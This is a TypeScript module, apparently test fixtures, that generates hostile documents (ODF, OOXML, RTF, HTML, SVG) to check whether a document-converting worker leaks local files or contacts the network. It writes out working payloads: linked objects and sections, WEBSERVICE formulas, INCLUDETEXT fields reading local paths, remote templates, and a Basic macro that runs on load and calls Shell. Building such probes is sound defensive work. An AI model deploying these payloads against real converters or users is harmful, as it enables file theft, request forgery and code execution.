/** Documents that want what is not theirs: a file of the machine, a call into its network, or the whole of it. */

import { baitDocument } from '#worker/probe/documents.ts'
import { flat } from './flat.ts'
import { linkingDeck, linkingSheet, linkingWord } from './linking-packages.ts'

export interface Hostile {
  /** What it does, as the end of “a document that …”. */
  does: string
  format: string
  bytes: Buffer | string
}

export interface Bait {
  /** URL of a text document that holds a secret. */
  file: string
  /** URL of an SVG picture that holds it as well. */
  picture: string
  /** URL of a server that hears whether anybody calls. */
  server: string
  /** A path that a macro would like to write to. */
  written: string
}

const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'

/** One of each kind; each tries both the file and the server where its kind can. */
export async function thieves(bait: Bait): Promise<Hostile[]> {
  return [
    { does: 'links objects and pictures on a slide', format: 'fodp', bytes: slide(bait) },
    { does: 'fills a shape with a picture', format: 'fodt', bytes: filledShape(bait) },
    { does: 'links a section of its text', format: 'fodt', bytes: section(bait) },
    { does: 'links a table from elsewhere', format: 'fods', bytes: linkedTable(bait) },
    { does: 'asks the network in a cell', format: 'fods', bytes: askingCell(bait) },
    { does: 'shows frames and pictures of a web page', format: 'html', bytes: page(bait) },
    { does: 'draws pictures from elsewhere', format: 'svg', bytes: drawing(bait) },
    { does: 'runs a macro when it opens', format: 'fodt', bytes: macro(bait) },
    {
      does: 'takes its template and pictures from elsewhere',
      format: 'docx',
      bytes: await linkingWord(bait),
    },
    { does: 'fetches over WebDAV and FTP', format: 'fodp', bytes: slide(otherWays(bait)) },
    { does: 'reads fields from a file', format: 'rtf', bytes: richText(bait) },
    { does: 'hangs pictures into backgrounds and bullets', format: 'fodt', bytes: decorated(bait) },
    { does: 'links pictures, objects and films on a slide', format: 'pptx', bytes: await linkingDeck(bait) },
    { does: 'links another workbook', format: 'xlsx', bytes: await linkingSheet(bait) },
  ]
}

function slide({ file, server }: Bait): string {
  const frames = [
    `<draw:object xlink:href="${file}" ${LINK}/>`,
    `<draw:object xlink:href="${server}/object.odt" ${LINK}/>`,
    `<draw:image xlink:href="${server}/picture.png" ${LINK}/>`,
    `<draw:floating-frame xlink:href="${server}/frame.html" ${LINK}/>`,
  ].map(
    (content, index) =>
      `<draw:frame svg:x="1cm" svg:y="${index * 5}cm" svg:width="12cm" svg:height="5cm">${content}</draw:frame>`,
  )
  return flat('presentation', `<draw:page draw:name="p">${frames.join('')}</draw:page>`)
}

/** The trap itself: the one thing that LibreOffice follows in all versions, whatever its profile says. */
function filledShape({ picture, server }: Bait): string {
  return baitDocument({ fill: picture, picture: `${server}/picture.png` })
}

function section({ file, server }: Bait): string {
  const sections = [file, `${server}/section.odt`].map(
    (href, index) =>
      `<text:section text:name="s${index}"><text:section-source xlink:type="simple" xlink:href="${href}"/><text:p>empty</text:p></text:section>`,
  )
  return flat('text', sections.join(''))
}

function linkedTable({ file, server }: Bait): string {
  const tables = [file, `${server}/table.ods`].map(
    (href, index) =>
      `<table:table table:name="t${index}"><table:table-source xlink:type="simple" xlink:href="${href}"/><table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
  )
  return flat('spreadsheet', tables.join(''))
}

function askingCell({ server, file }: Bait): string {
  const cells = [`WEBSERVICE(&quot;${server}/cell&quot;)`, `WEBSERVICE(&quot;${file}&quot;)`].map(
    formula =>
      `<table:table-cell table:formula="of:=COM.MICROSOFT.${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>`,
  )
  return flat(
    'spreadsheet',
    `<table:table table:name="t"><table:table-row>${cells.join('')}</table:table-row></table:table>`,
  )
}

function page({ file, server }: Bait): string {
  return `<html><head><link rel="stylesheet" href="${server}/style.css"><base href="${server}/"></head>
<body background="${server}/background.png"><p>x</p><iframe src="${file}"></iframe><iframe src="${server}/frame"></iframe>
<img src="${server}/picture.png"><object data="${file}"></object><script src="${server}/script.js"></script></body></html>`
}

function drawing({ file, server }: Bait): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">
<image xlink:href="${server}/picture.png" width="50" height="50"/><image href="${file}" width="50" height="50"/>
<use xlink:href="${server}/other.svg#a"/><style>@import url("${server}/style.css");</style><text y="20">x</text></svg>`
}

function macro({ written, server }: Bait): string {
  const code = `Sub Main\nOpen &quot;${written}&quot; For Output As #1\nPrint #1, &quot;x&quot;\nClose #1\nShell(&quot;/usr/bin/touch ${written}&quot;)\nEnd Sub`
  const library = `<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>${code}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>`
  const events = ['dom:load', 'office:load-finished', 'office:view-created'].map(
    event =>
      `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>`,
  )
  const scripts = `<office:scripts>${library}<office:event-listeners xmlns:dom="http://www.w3.org/2001/xml-events">${events.join('')}</office:event-listeners></office:scripts>`
  return flat('text', `<text:p>x</text:p><text:p>${server}</text:p>`, { scripts })
}

function decorated({ file, server }: Bait): string {
  const image = (address: string) => `<style:background-image xlink:href="${address}" ${LINK}/>`
  const styles = `<style:page-layout style:name="l"><style:page-layout-properties>${image(`${server}/page.png`)}</style:page-layout-properties></style:page-layout>
<style:style style:name="p" style:family="paragraph"><style:paragraph-properties>${image(`${server}/paragraph.png`)}</style:paragraph-properties></style:style>
<text:list-style style:name="b"><text:list-level-style-image text:level="1" xlink:href="${file}" ${LINK}/><text:list-level-style-image text:level="2" xlink:href="${server}/bullet.png" ${LINK}/></text:list-style>`
  const list = `<text:list text:style-name="b"><text:list-item><text:p text:style-name="p">x</text:p></text:list-item></text:list>`
  return flat('text', list, { styles })
}

function richText({ file, server }: Bait): string {
  const path = new URL(file).pathname
  return `{\\rtf1\\ansi {\\field{\\*\\fldinst INCLUDETEXT "${path}"}{\\fldrslt x}}
{\\field{\\*\\fldinst INCLUDEPICTURE "${server}/picture.png" \\\\d}{\\fldrslt x}}
{\\*\\template ${server}/template.dot} x}`
}

function otherWays({ server, ...rest }: Bait): Bait {
  return { ...rest, server: server.replace('http:', 'vnd.sun.star.webdav:') }
}
